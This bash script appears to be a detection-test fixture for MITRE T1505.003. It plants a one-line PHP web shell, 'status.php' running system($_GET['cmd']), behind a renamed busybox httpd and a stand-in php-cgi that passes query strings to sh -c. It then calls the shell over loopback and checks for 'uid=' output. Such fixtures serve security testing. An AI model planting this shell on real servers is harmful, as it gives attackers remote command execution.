#!/bin/bash
# Plant a PHP web shell in a web server's document root and use it over loopback: the
# server hands the page to php-cgi, which runs the command from the query string through
# sh -c. The server is busybox's httpd applet installed under its own name; PHP is not
# installed, so php-cgi is a stand-in script that does what `system($_GET['cmd'])` does.
# technique: T1505.003
# expect: web-server-shell
set -eu
cp /usr/bin/busybox /usr/local/sbin/httpd
cat > /usr/local/bin/php-cgi <<'PHP'
#!/bin/sh
# stand-in for php-cgi running a one-line web shell: system($_GET['cmd'])
printf 'Content-Type: text/plain\r\n\r\n'
cmd=$(echo "${QUERY_STRING#cmd=}" | tr '+' ' ')
exec sh -c "$cmd" 2>&1
PHP
chmod 755 /usr/local/bin/php-cgi
mkdir -p /srv/www
echo '<?php system($_GET["cmd"]); ?>' > /srv/www/status.php
echo '*.php:/usr/local/bin/php-cgi' > /srv/httpd.conf
port=18417
/usr/local/sbin/httpd -f -p "127.0.0.1:$port" -h /srv/www -c /srv/httpd.conf &
server=$!
out=
for _ in $(seq 50); do
    out=$(busybox wget -q -O - "http://127.0.0.1:$port/status.php?cmd=id+root" 2>/dev/null) && break
    sleep 0.1
done
kill "$server"
wait "$server" || true
echo "$out"
echo "$out" | grep -q 'uid='
